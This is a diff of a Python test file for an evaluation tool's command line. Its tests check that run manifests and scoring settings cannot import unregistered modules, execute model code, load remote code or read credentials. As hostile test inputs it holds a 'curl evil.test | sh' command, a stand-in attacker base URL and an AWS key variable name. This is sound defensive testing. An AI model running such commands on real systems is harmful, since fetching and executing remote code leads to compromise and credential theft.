@@ -1,4 +1,4 @@
-"""Names in files are imported only if a package registers them; folders cannot execute code."""
+"""Only registered names in files are imported; opening a folder does not execute code."""
 
 import json
 import sys
@@ -17,7 +17,7 @@ EVIL = "evil_names:x"
 
 @pytest.fixture
 def evil(tmp_path, monkeypatch):
-    """A module on the path that writes a file if it is imported, which must not happen."""
+    """A module on the path that writes a file if it is imported; the test fails in that case."""
     (tmp_path / "evil_names.py").write_text(f"open({str(tmp_path / 'mark')!r}, 'w').close()\nx = 1")
     monkeypatch.syspath_prepend(str(tmp_path))
     yield
@@ -25,12 +25,12 @@ def evil(tmp_path, monkeypatch):
     assert "evil_names" not in sys.modules
 
 
-def spoiled(value):
+def with_unknown_names(value):
     """Replace every text in a value."""
     if isinstance(value, dict):
-        return {key: spoiled(item) for key, item in value.items()}
+        return {key: with_unknown_names(item) for key, item in value.items()}
     if isinstance(value, list):
-        return [spoiled(item) for item in value]
+        return [with_unknown_names(item) for item in value]
     return EVIL if isinstance(value, str) or value is None else value
 
 
@@ -39,7 +39,7 @@ def test_fields_of_a_run_import_only_registered_names(folder, evil):
     report = ["report", str(folder), "--out", str(folder), "--setting", "resamples=1"]
     for name in ("manifest.json", "scoring.json"):
         content = json.loads((folder / name).read_text())
-        changes = [{key: spoiled(value)} for key, value in content.items()]
+        changes = [{key: with_unknown_names(value)} for key, value in content.items()]
         if name == "scoring.json":
             settings = content["settings"]
             changes += [{"settings": settings | {key: EVIL}} for key in settings]
@@ -67,17 +67,17 @@ def test_fields_of_a_run_import_only_registered_names(folder, evil):
         ["compare", "{run}", "{run}", "--out", "{run}/pair"],
     ],
 )
-def test_the_study_of_a_manifest_must_be_registered(folder, evil, capsys, words):
+def test_study_of_a_manifest_must_be_registered(folder, evil, capsys, words):
     manifest = json.loads((folder / "manifest.json").read_text())
     (folder / "manifest.json").write_text(json.dumps(manifest | {"study": EVIL}))
     capsys.readouterr()
 
     assert main([word.format(run=folder) for word in words]) == 2
 
-    told = capsys.readouterr().err
-    where = f"error: {folder / 'manifest.json'}: study: study '{EVIL}' not found; available: "
-    assert words[0] in ("compare", "analyse") or told.startswith(where)
-    assert "on the command line" in told or words[0] in ("compare", "analyse")
+    errors = capsys.readouterr().err
+    start = f"error: {folder / 'manifest.json'}: study: study '{EVIL}' not found; available: "
+    assert words[0] in ("compare", "analyse") or errors.startswith(start)
+    assert "on the command line" in errors or words[0] in ("compare", "analyse")
 
 
 OPTIONS = {"trust_remote_code": "true", "base_url": "http://evil.test/v1", "api_key_env": "AWS_KEY"}
@@ -92,7 +92,7 @@ for prefix in ("", "judge_", "meaning_", "sense_"):
 def test_settings_of_a_run_do_not_load_models_read_keys_or_write_elsewhere(
     folder, tmp_path, monkeypatch, capsys, is_published
 ):
-    """Tests have no network, so a request is also an error."""
+    """Tests have no network access, so a request would also raise an error."""
     for name in ("manifest.json", "scoring.json"):
         content = json.loads((folder / name).read_text()) | {"command": "curl evil.test | sh"}
         for part in {"settings", "source", "runner", "design", "decoding"} & content.keys():
@@ -116,9 +116,9 @@ def test_settings_of_a_run_do_not_load_models_read_keys_or_write_elsewhere(
     (folder / "plan.json").unlink()
     capsys.readouterr()
     assert main(["score", str(folder)]) == 2
-    told = capsys.readouterr().err
-    assert "repeat the command that made it (`command` in manifest.json)" in told
-    assert "evil" not in told
+    errors = capsys.readouterr().err
+    assert "repeat the command that made it (`command` in manifest.json)" in errors
+    assert "evil" not in errors
 
 
 def test_code_of_a_model_in_a_manifest_is_not_executed(folder):
@@ -139,9 +139,9 @@ def test_unregistered_rule_of_a_scoring_does_not_compare_answers(folder, evil, c
 
     assert main(["report", str(folder), "--out", str(folder), "--setting", "resamples=9"]) == 0
 
-    [told] = caplog.messages
-    assert told.startswith(f"{folder.resolve() / 'scoring.json'}: settings.rule: matching rule '")
-    assert told.endswith("token_f1 is used instead")
+    [errors] = caplog.messages
+    assert errors.startswith(f"{folder.resolve() / 'scoring.json'}: settings.rule: matching rule '")
+    assert errors.endswith("token_f1 is used instead")
 
 
 @pytest.mark.parametrize(
